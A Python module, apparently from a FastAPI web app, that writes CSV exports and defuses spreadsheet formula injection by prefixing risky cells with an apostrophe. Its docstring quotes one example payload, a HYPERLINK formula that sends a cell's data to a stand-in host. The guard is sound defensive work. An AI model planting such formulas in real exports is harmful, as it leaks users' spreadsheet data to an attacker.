"""The one CSV writer of every export: cells a spreadsheet shows as text, never runs.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
some spreadsheets skip before looking) is read as a formula by Excel and LibreOffice:
``=HYPERLINK("https://evil.example/?"&A1, "klik")`` in a curator's note would leak the
sheet's data. Such a cell gets a leading apostrophe, the usual spreadsheet marker for
"this is text". Every CSV the site serves goes through ``csv_response``.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

from fastapi.responses import Response

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
LIST_SEPARATOR = "; "


def cell_text(value: Any) -> str:
    """One value as cell text: lists joined with '; ', None empty (no formula guard: an
    ``.xlsx`` cell typed as text needs none)."""
    if value is None:
        return ""
    return LIST_SEPARATOR.join(map(str, value)) if isinstance(value, list | tuple) else str(value)


def csv_cell(value: Any) -> str:
    """One value as a safe CSV cell: ``cell_text`` with formulas defused."""
    text = cell_text(value)
    # Spreadsheets ignore leading spaces before a formula, so look past them.
    if text.lstrip(" ")[:1] in FORMULA_STARTS or text[:1] in FORMULA_STARTS:
        return "'" + text
    return text


BOM = "\ufeff"  # without it Excel reads UTF-8 in the local code page: "coÃ¶rdinatie"


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """A whole CSV document with a byte order mark; every cell, the header's too, passes
    ``csv_cell``."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([csv_cell(name) for name in header])
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
    return BOM + buffer.getvalue()


def csv_response(header: Sequence[str], rows: Iterable[Sequence[Any]], filename: str) -> Response:
    """A CSV download (``filename`` must be plain: a slug and an extension)."""
    return Response(
        csv_text(header, rows),
        media_type="text/csv; charset=utf-8",
        headers={"Content-Disposition": f'attachment; filename="{filename}"'},
    )
